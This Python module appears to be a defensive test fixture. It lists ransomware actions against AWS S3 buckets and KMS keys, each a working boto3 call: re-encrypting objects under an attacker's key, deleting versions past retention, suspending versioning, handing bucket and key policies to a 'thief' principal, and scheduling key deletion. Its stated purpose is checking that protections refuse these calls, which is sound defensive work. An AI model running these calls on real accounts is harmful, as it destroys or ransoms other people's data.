"""The moves of ransomware against objects and keys: what a thief does with stolen credentials to hold data hostage.

Each move is one call on a target. It succeeds on a target without protection and must be refused on every one of ours.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

from botocore.exceptions import ClientError


@dataclass(frozen=True)
class Target:
    """An object and the key it lies under, with the thief's clients; `foreign` is a key of the thief's account."""

    s3: Any
    kms: Any
    bucket: str
    key: str
    version: str
    kms_key: str
    foreign: str
    alias: str
    thief: str

    @property
    def at(self) -> dict[str, str]:
        """Bucket and Key."""
        return {"Bucket": self.bucket, "Key": self.key}


Move = Callable[[Target], Any]
_OPEN = {"Effect": "Allow", "Principal": "*"}
SSE_C = {"SSECustomerAlgorithm": "AES256", "SSECustomerKey": "k" * 32}


def put_under_foreign_key(t: Target) -> Any:
    return t.s3.put_object(**t.at, Body=b"ransom", ServerSideEncryption="aws:kms", SSEKMSKeyId=t.foreign)


def copy_in_place_under_foreign_key(t: Target) -> Any:
    return t.s3.copy_object(**t.at, CopySource=t.at, ServerSideEncryption="aws:kms", SSEKMSKeyId=t.foreign)


def put_under_a_key_that_is_not_named(t: Target) -> Any:
    return t.s3.put_object(**t.at, Body=b"ransom", ServerSideEncryption="aws:kms")


def put_under_customer_key(t: Target) -> Any:
    return t.s3.put_object(**t.at, Body=b"ransom", **SSE_C)


def copy_in_place_under_customer_key(t: Target) -> Any:
    return t.s3.copy_object(**t.at, CopySource=t.at, **SSE_C)


def overwrite_without_condition(t: Target) -> Any:
    return t.s3.put_object(**t.at, Body=b"ransom")


def overwrite_by_matching(t: Target) -> Any:
    found = t.s3.list_objects_v2(Bucket=t.bucket, Prefix=t.key)["Contents"][0]
    return t.s3.put_object(**t.at, Body=b"ransom", IfMatch=found["ETag"])


def delete_version(t: Target) -> Any:
    return t.s3.delete_object(**t.at, VersionId=t.version)


def delete_batch(t: Target) -> Any:
    wanted = [{"Key": t.key, "VersionId": t.version}, {"Key": t.key}]
    answer = t.s3.delete_objects(Bucket=t.bucket, Delete={"Objects": wanted})
    if len(answer.get("Errors", [])) == len(wanted):
        raise ClientError({"Error": answer["Errors"][0]}, "DeleteObjects")
    return answer


def hide_behind_marker(t: Target) -> Any:
    return t.s3.delete_object(**t.at)


def delete_past_governance(t: Target) -> Any:
    return t.s3.delete_object(**t.at, VersionId=t.version, BypassGovernanceRetention=True)


def shorten_lock(t: Target) -> Any:
    soon = {"Mode": "GOVERNANCE", "RetainUntilDate": datetime.now(UTC) + timedelta(minutes=1)}
    arguments = {"VersionId": t.version, "Retention": soon}
    return t.s3.put_object_retention(**t.at, **arguments, BypassGovernanceRetention=True)


def expire_by_lifecycle(t: Target) -> Any:
    rule = {
        "ID": "soon",
        "Status": "Enabled",
        "Filter": {"Prefix": ""},
        "NoncurrentVersionExpiration": {"NoncurrentDays": 1},
    }
    return t.s3.put_bucket_lifecycle_configuration(Bucket=t.bucket, LifecycleConfiguration={"Rules": [rule]})


def suspend_versioning(t: Target) -> Any:
    return t.s3.put_bucket_versioning(Bucket=t.bucket, VersioningConfiguration={"Status": "Suspended"})


def weaken_default_lock(t: Target) -> Any:
    return t.s3.put_object_lock_configuration(Bucket=t.bucket, ObjectLockConfiguration={"ObjectLockEnabled": "Enabled"})


def change_default_encryption(t: Target) -> Any:
    default = {"SSEAlgorithm": "aws:kms", "KMSMasterKeyID": t.foreign}
    rules = {"Rules": [{"ApplyServerSideEncryptionByDefault": default}]}
    return t.s3.put_bucket_encryption(Bucket=t.bucket, ServerSideEncryptionConfiguration=rules)


def delete_bucket_policy(t: Target) -> Any:
    return t.s3.delete_bucket_policy(Bucket=t.bucket)


def replace_bucket_policy(t: Target) -> Any:
    mine = {**_OPEN, "Principal": {"AWS": t.thief}, "Action": "s3:*", "Resource": f"arn:aws:s3:::{t.bucket}/*"}
    document = {"Version": "2012-10-17", "Statement": [mine]}
    return t.s3.put_bucket_policy(Bucket=t.bucket, Policy=json.dumps(document))


def remove_public_access_block(t: Target) -> Any:
    return t.s3.delete_public_access_block(Bucket=t.bucket)


def delete_bucket(t: Target) -> Any:
    return t.s3.delete_bucket(Bucket=t.bucket)


def disable_key(t: Target) -> Any:
    return t.kms.disable_key(KeyId=t.kms_key)


def schedule_key_deletion(t: Target) -> Any:
    return t.kms.schedule_key_deletion(KeyId=t.kms_key, PendingWindowInDays=7)


def take_over_key_policy(t: Target) -> Any:
    mine = {"Effect": "Allow", "Principal": {"AWS": t.thief}, "Action": "kms:*", "Resource": "*"}
    document = {"Version": "2012-10-17", "Statement": [mine]}
    return t.kms.put_key_policy(KeyId=t.kms_key, PolicyName="default", Policy=json.dumps(document))


def grant_itself_decrypt(t: Target) -> Any:
    return t.kms.create_grant(KeyId=t.kms_key, GranteePrincipal=t.thief, Operations=["Decrypt"])


def retarget_alias(t: Target) -> Any:
    return t.kms.update_alias(AliasName=t.alias, TargetKeyId=t.foreign)


def delete_alias(t: Target) -> Any:
    return t.kms.delete_alias(AliasName=t.alias)


def stop_rotation(t: Target) -> Any:
    return t.kms.disable_key_rotation(KeyId=t.kms_key)


#: moves on objects and buckets, in an order in which they can be made one after the other on one target
ON_OBJECTS: tuple[Move, ...] = (
    put_under_foreign_key,
    copy_in_place_under_foreign_key,
    put_under_a_key_that_is_not_named,
    put_under_customer_key,
    copy_in_place_under_customer_key,
    overwrite_without_condition,
    overwrite_by_matching,
    delete_version,
    delete_batch,
    hide_behind_marker,
    delete_past_governance,
    shorten_lock,
    expire_by_lifecycle,
    suspend_versioning,
    weaken_default_lock,
    change_default_encryption,
    delete_bucket_policy,
    replace_bucket_policy,
    remove_public_access_block,
    delete_bucket,
)
ON_KEYS: tuple[Move, ...] = (
    disable_key,
    schedule_key_deletion,
    take_over_key_policy,
    grant_itself_decrypt,
    retarget_alias,
    delete_alias,
    stop_rotation,
)
#: blocked on every bucket of the laptop's cloud, as on new buckets of AWS: there is no variant on which it works
BLOCKED_EVERYWHERE = (put_under_customer_key, copy_in_place_under_customer_key)
